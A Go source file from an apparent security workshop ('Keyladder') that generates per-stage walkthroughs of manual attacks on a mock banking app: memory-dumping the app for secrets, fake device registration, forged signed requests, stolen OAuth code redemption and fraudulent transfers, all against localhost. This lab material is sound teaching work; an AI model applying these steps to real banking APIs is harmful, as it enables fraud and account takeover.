package byhand

import (
	"fmt"
	"slices"
	"strings"

	"keyladder/stages/catalog"
)

// step is something that a person does who carries out an attack by hand. Its text may hold
// what [Steps] fills in.
type step struct {
	text string
	need []func(catalog.Policies) bool // where it is needed; none: everywhere
}

// Where steps are needed.
func inTheClear(p catalog.Policies) bool       { return p.Call.Transport == catalog.PlainHTTP }
func overTLS(p catalog.Policies) bool          { return p.Call.Transport != catalog.PlainHTTP }
func withCertificates(p catalog.Policies) bool { return p.Call.Transport == catalog.MutualTLS }
func pinned(p catalog.Policies) bool           { return p.Call.Pins == catalog.Pinned }
func notPinned(p catalog.Policies) bool        { return p.Call.Pins == catalog.NotPinned }
func withKeys(p catalog.Policies) bool         { return p.Call.AppProof == catalog.AppKey }
func signed(p catalog.Policies) bool           { return p.Call.AppProof == catalog.Hawk }
func attested(p catalog.Policies) bool         { return p.Call.AppProof == catalog.IntegrityToken }
func unattested(p catalog.Policies) bool       { return !attested(p) }
func byNoKey(p catalog.Policies) bool          { return !withKeys(p) }
func unmediated(p catalog.Policies) bool       { return !mediated(p) }
func hashed(p catalog.Policies) bool           { return p.Attestation.Level == catalog.PackageHash }
func challenged(p catalog.Policies) bool       { return p.Attestation.Level == catalog.PackageChallenge }

func byDevice(p catalog.Policies) bool         { return p.Attestation.Level == catalog.DeviceEvidence }
func byApp(p catalog.Policies) bool            { return !byDevice(p) }
func byAttestation(p catalog.Policies) bool    { return p.Call.ClientAuth == catalog.ByAttestation }
func notByAttestation(p catalog.Policies) bool { return !byAttestation(p) }
func proven(p catalog.Policies) bool           { return p.Call.Sender != catalog.AnySender }
func unproven(p catalog.Policies) bool         { return !proven(p) }
func appSecret(p catalog.Policies) bool        { return p.Call.ClientAuth == catalog.ClientSecret }
func mediated(p catalog.Policies) bool         { return p.Call.ClientAuth.Attested() }
func pushes(p catalog.Policies) bool           { return p.Auth.Requests == catalog.PushedRequests }
func inURLs(p catalog.Policies) bool           { return p.Auth.Requests == catalog.RequestsInURL }
func atProvider(p catalog.Policies) bool       { return p.Call.Providers == catalog.ChosenAtMediator }
func ofOneDevice(p catalog.Policies) bool      { return p.Call.Binding.ToDevice() }
func ofAnyDevice(p catalog.Policies) bool      { return !ofOneDevice(p) }
func keysInURLs(p catalog.Policies) bool       { return p.Call.KeyPlace == catalog.KeyInPublicURLs }
func noKeysInURLs(p catalog.Policies) bool     { return p.Call.KeyPlace != catalog.KeyInPublicURLs }
func withDevices(p catalog.Policies) bool      { return p.Call.Devices == catalog.RegisteredDevices }
func withUsers(p catalog.Policies) bool        { return p.Call.UserProof != catalog.NoUser }
func withSessions(p catalog.Policies) bool     { return p.Call.UserProof == catalog.UserSession }
func withTokens(p catalog.Policies) bool       { return p.Call.UserProof == catalog.AccessToken }
func byPassword(p catalog.Policies) bool       { return p.Auth.Offers(catalog.PasswordGrant) }
func onPages(p catalog.Policies) bool          { return p.Call.Grant.InAgent() }
func inTheApp(p catalog.Policies) bool         { return !p.Call.Grant.InAgent() }
func inFragments(p catalog.Policies) bool      { return p.Call.Grant == catalog.ImplicitGrant }
func withCodes(p catalog.Policies) bool        { return p.Call.Grant.HasCode() }
func withChallenges(p catalog.Policies) bool {
	return p.Auth.PKCE != catalog.NoPKCE && p.Auth.Requests == catalog.RequestsInURL
}

func inRequests(p catalog.Policies) bool {
	return withChallenges(p) && p.Auth.PKCE == catalog.PlainPKCE
}

func hashedInRequests(p catalog.Policies) bool {
	return withChallenges(p) && p.Auth.PKCE == catalog.S256PKCE
}
func withRefresh(p catalog.Policies) bool    { return p.Call.Grant == catalog.CodeAndRefresh }
func staysSignedIn(p catalog.Policies) bool  { return p.Call.UserKey == catalog.UserKeyInStorage }
func forgetsUsers(p catalog.Policies) bool   { return p.Call.UserKey == catalog.UserKeyInMemory }
func withoutUsers(p catalog.Policies) bool   { return p.Call.UserProof == catalog.NoUser }
func secretsInClear(p catalog.Policies) bool { return p.Package.Secrets == catalog.ClearSecrets }
func noSecrets(p catalog.Policies) bool      { return p.Package.Secrets == catalog.NoSecrets }
func pinsInClear(p catalog.Policies) bool    { return p.Package.Secrets != catalog.HiddenSecrets }
func secretsHidden(p catalog.Policies) bool  { return p.Package.Secrets == catalog.HiddenSecrets }

// walk is one step, or several.
type walk []step

func steps(parts ...walk) []step { return slices.Concat(parts...) }

func say(text string) walk { return walk{{text: text}} }

// Beside begins a step whose command goes on until the others have been done.
const Beside = "In a second terminal, "

func beside(text string) walk {
	return say(Beside + text + " Leave it running.")
}

// at is the steps where that is so.
func (w walk) at(need func(catalog.Policies) bool) walk {
	var needed walk
	for _, s := range w {
		s.need = append(slices.Clone(s.need), need)
		needed = append(needed, s)
	}
	return needed
}

// Steps that attacks share. The loot is in the folder that `stages loot` fills.
var (
	theCA      = say("Get the certificate of the CA that every device trusts: `curl -fsSO http://localhost:8000/workshop-ca.pem`.").at(overTLS)
	thePackage = say("Get the package of the app: `curl -fsSO http://localhost:8000/packages/{package}`.")

	victimPays = slices.Concat(
		passwordOf("alice"), signIn("alice"),
		say("Have the victim come by, and pay: `mobileclient --phone alice --stage {stage}{as alice} --access-point {here} transfer --to HB-2001 --amount 1.00 --reference {attack}`."),
	)

	hooked = slices.Concat(
		say("Use the genuine app on your own phone, and write down the memory of its process, as gcore does: `mobileclient --phone mallory --stage {stage}{as mallory} --memory memory.bin accounts`."),
		say("Search it for the shapes that you know: keys, certificates, requests that were sent: `stages loot memory.bin`."),
		say("A secret is told by a signed request in the same memory: it is the text there that makes the same MAC.").at(signed),
		say("The app's secret stands in a request to the token endpoint in the same memory.").at(attested).at(appSecret),
		say("There is no secret among it: the app has none.").at(mediated),
	)

	ownDevice = slices.Concat(
		say("Register a phone that there is not: `{sign} -d '{\"identifier\":\"own-{attack}\"}' {api}/v1/devices | {fetch} -K - > registered.json`."),
		say("Keep the fields that stand for it: `python3 -c 'import json; print(\"Device-Id: own-{attack}\\nDevice-Guid:\", json.load(open(\"registered.json\"))[\"guid\"])' > own-device.txt`."),
	).at(withDevices)

	ownSession = slices.Concat(
		say("Sign in with a program of your own: `{sign} -X POST -u \"mallory:$(cat mallory.txt)\" -H @- {api}/v1/session < loot/device.txt | {fetch} -K - | stages open --secret \"$(cat loot/secret)\" > session.json`."),
		say("Keep the fields that stand for you: `python3 -c 'import json; print(\"Authorization: Session\", json.load(open(\"session.json\"))[\"session_key\"])' | cat - loot/device.txt > own-session.txt`."),
	).at(withSessions)

	ownToken = slices.Concat(
		say("Get an access token with a program of your own, in the name of the app: `{fetch} -d grant_type=password -d \"client_id=$(cat loot/client-id)\" -d username=mallory --data-urlencode \"password=$(cat mallory.txt)\" {api}/v1/token > token.json`."),
		say("Keep the field that stands for you: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > own-session.txt`."),
	).at(byPassword)

	// attest trades what is in evidence.json for a client integrity token, and books with that.
	attest = slices.Concat(
		say("Open a session at the attestation service, and answer it with that: `{open} && {answer}`. From then on you have a minute."),
		bookAttested,
	)
	bookAttested = slices.Concat(
		say("Keep the client attestation that comes of it. Nobody says whether it is a good one: `python3 -c 'import json; print(\"OAuth-Client-Attestation:\", json.load(open(\"attested.json\"))[\"result\"][\"client_attestation\"])' > own-attestation.txt`.").at(byAttestation),
		say("Push a request with it, to sign in. It is refused, and this is where it ends: `{curl} -H @own-attestation.txt -d '{asked for}' --data-urlencode redirect_uri=com.harbourbank.app:/callback {tokens}/par`.").at(byAttestation),
		bookWithToken.at(notByAttestation),
	)
	bookWithToken = slices.Concat(
		say("Keep the token that comes of it. Nobody says whether it is a good one: `python3 -c 'import json; print(\"Client-Integrity-Token:\", json.load(open(\"attested.json\"))[\"result\"][\"token\"])' > own-proof.txt`."),
		ownSignIn.at(appSecret),
		say("Sign in on the bank's page, with a program of your own that takes part in the app's place and has that token: `stages token --stage {stage} --user mallory --integrity \"$(cut -d ' ' -f 2 own-proof.txt)\" | grep -i ^authorization: > own-session.txt`.").at(mediated),
		say("Book a transfer with a program of your own: `{curl} -H @own-proof.txt -H @own-session.txt --json '{own payment}' {api}/v1/transfers`."),
	)

	// madeUp has a phone that is none say what the attestation service wants to hear.
	madeUp = say("The service asks the phone, and not the app. Make a phone up that says what a real one says, with a certificate whose root is your own, and sign in through it: `stages token --stage {stage} --user mallory --made-up-phone > own.txt`. What the attestation service gives it looks like what others get, and the mediator refuses it: this is where it ends.").at(byDevice)

	// A program that has the app's secret, where there is one, can sign in as the app does.
	ownSignIn = say("Sign in on the bank's page, with a program of your own that takes part in the app's place: `stages token --stage {stage} --user mallory{own secret} | grep -i ^authorization: > own-session.txt`.").at(onPages)
)

// redeem trades a code for an access token, and keeps the field that stands for its user.
func redeem(file string) walk {
	return slices.Concat(
		say("Exchange the code, as the app would: `{fetch} -u \"harbour-mobile:$(cat loot/secret)\" -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat "+file+")\" {auth}/token > token.json`."),
		say("Keep the field that stands for the victim: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > stolen.txt`."),
	)
}

// passwordOf takes a password of the workshop's.
func passwordOf(user string) walk {
	return say("Look up the password of " + user + ", who uses the app: `python3 -c 'import json; print(json.load(open(\"{passwords}\"))[\"" + user + "\"])' > " + user + ".txt`.").at(withUsers)
}

// signIn signs a user in with the genuine app on a phone of their own, which remembers that.
// Where it does not, its next command has to: that is what {as …} is for.
func signIn(user string) walk {
	return say("Sign " + user + " in: `mobileclient --phone " + user + " --stage {stage} sign-in --user " + user + " --password-file " + user + ".txt`.").at(staysSignedIn)
}

// book books a transfer with a program of one's own, with what was found. The file has the
// fields that say who is calling, where calls are signed with them.
func book(from, to, fields string) walk {
	payment := payment(from, to)
	return slices.Concat(
		say("Book a transfer with a program of your own: `{curl} {cert} {field} --json '"+payment+"' {api}/v1/transfers`.").at(withKeys).at(withoutUsers),
		say("Book a transfer with a program of your own: `{curl} {cert} {field} -H @"+fields+" --json '"+payment+"' {api}/v1/transfers`.").at(withKeys).at(withUsers),
		say("Book a transfer with a program of your own: `{curl} -H @"+fields+" --json '"+payment+"' {api}/v1/transfers`.").at(attested).at(unproven),
		say("Book a transfer with a program of your own. The calls have to be proven with a key that you don't have, so it uses one of its own: `sed s/Bearer/DPoP/ "+fields+" | stages sign --made-up-phone -H @- -d '"+payment+"' {api}/v1/transfers | {curl} -K -`.").at(proven),
		say("Book a transfer with a program of your own: `{sign}{seal} -H @- -d '"+payment+"' {api}/v1/transfers < "+fields+" | {curl} {cert} -K -`.").at(signed),
	)
}

func payment(from, to string) string {
	return fmt.Sprintf(`{"from":%q,"to":%q,"amount":100,"currency":"EUR","reference":"{attack}"}`, from, to)
}

// Setup is typed first, in each terminal, in the repository's folder.
const Setup = "go build -o data/bin/ ./stages ./mobileclient && PATH=$PWD/data/bin:$PATH"

// Steps are what a person does who carries out the attack by hand at a stage, in order. What
// is between backquotes can be typed as it is after [Setup], where `stages up` has started
// Keyladder on its usual ports.
func Steps(a catalog.Attack, stage catalog.Stage) []string {
	api, trust := "https://localhost:8443/", " --cacert workshop-ca.pem"
	if inTheClear(stage.Policies) {
		api, trust = "http://localhost:8080/", ""
	}
	cert, seal := "", ""
	if withCertificates(stage.Policies) {
		cert = " --cert loot/app.pem"
	}
	if stage.Call.Bodies == catalog.SealedBodies {
		seal = " --seal"
	}
	device := ""
	if withDevices(stage.Policies) {
		device = ` -H "$(head -n 1 loot/device.txt)" -H "$(tail -n 1 loot/device.txt)"`
	}
	ownSecret := ""
	if stage.Call.ClientAuth == catalog.ClientSecret {
		ownSecret = ` --secret "$(cat loot/secret)"`
	}
	as := func(user string) string {
		if forgetsUsers(stage.Policies) {
			return " --user " + user + " --password-file " + user + ".txt"
		}
		return ""
	}
	const mediator = "https://localhost:8447/"
	auth := "https://localhost:8444/" + stage.Slug
	tokens, page := auth, auth+"/authorize?response_type="+responseType(stage.Policies)+"&client_id=harbour-mobile"
	if method := stage.Auth.PKCE; method != catalog.NoPKCE {
		page += "&code_challenge=" + challenge + "&code_challenge_method=" + string(method)
	}
	if mediated(stage.Policies) {
		tokens = mediator + stage.Slug
	}
	terminator := "stages intercept terminator"
	if stage.Call.Gateway == catalog.ThroughGateway {
		api, terminator = mediator, terminator+" --gateway"
	}
	if atProvider(stage.Policies) { // what the mediator asks the bank for, in the name of whoever signs in
		page = auth + "/authorize?response_type=code&client_id=harbour-mediator&redirect_uri=" + mediator + stage.Slug + "/callback/bank&state=made-up&code_challenge=" + challenge + "&code_challenge_method=S256"
	}
	scheme := "Bearer"
	if proven(stage.Policies) {
		scheme = "DPoP"
	}
	forgedProof := ""
	if attested(stage.Policies) {
		forgedProof = " -H @forged-proof.txt"
	}
	agent := fmt.Sprintf(" -A HarbourBank/%d.0", stage.Package.Release)
	fetch := "curl -sS" + trust + cert + agent // for a file
	open := fmt.Sprintf(`%s -D head.txt -o session.json --json '{"client_id":"harbour-mobile","release":%d,"device":"own-%s"}' https://localhost:8445/%s/v1/sessions`, fetch, stage.Package.Release, a.Name, stage.Slug)
	filled := strings.NewReplacer(
		"{api}", api+stage.Slug,
		"{auth}", auth,
		"{page}", page,
		"{terminator}", terminator,
		"{asked for}", "response_type="+responseType(stage.Policies)+"&client_id=harbour-mobile",
		"{own secret}", ownSecret,
		"{curl}", "curl -i"+trust+agent,
		"{fetch}", fetch,
		"{tokens}", tokens,
		"{open}", open,
		"{answer}", fetch+` -o attested.json --json @evidence.json "https://localhost:8445$(sed -n 's/^[Ll]ocation: //p' head.txt | tr -d '\r')"`,
		" {forged proof}", forgedProof,
		" {cert}", cert,
		" {field}", fmt.Sprintf(` -H "%s: key $(cat loot/client-id)"`, stage.Call.AppProofField()),
		"{proof}", stage.Call.AppProofField(),
		"{sign}", `stages sign --secret "$(cat loot/secret)"`,
		"{seal}", seal,
		"{scheme}", scheme,
		" {device}", device,
		"{own payment}", strings.ReplaceAll(payment("HB-3001", "HB-2001"), "{attack}", a.Name),
		"{rob}", strings.ReplaceAll(payment("HB-1001", "HB-3001"), "{attack}", a.Name),
		"{attack}", a.Name,
		"{as alice}", as("alice"),
		"{as mallory}", as("mallory"),
		"{stage}", stage.Slug,
		"{package}", fmt.Sprintf("harbour-bank-%d.pkg", stage.Package.Release),
		"{passwords}", "data/phone/passwords.json",
		"{storage}", "data/phone/command-line-lost-"+stage.Slug+"/storage",
		"{new phone}", "data/phone/command-line-new-"+stage.Slug,
		"{here}", "127.0.0.1:8082",
	)
	var steps []string
	for _, s := range byName[a.Name] {
		if !slices.ContainsFunc(s.need, func(need func(catalog.Policies) bool) bool { return !need(stage.Policies) }) {
			steps = append(steps, filled.Replace(s.text))
		}
	}
	return steps
}

// challenge is one of PKCE (RFC 7636, appendix B): whoever wants to guess passwords needs no code.
const challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"

// responseType is what the stage's clients ask the authorization server for.
func responseType(p catalog.Policies) string {
	if inFragments(p) {
		return "token"
	}
	return "code"
}
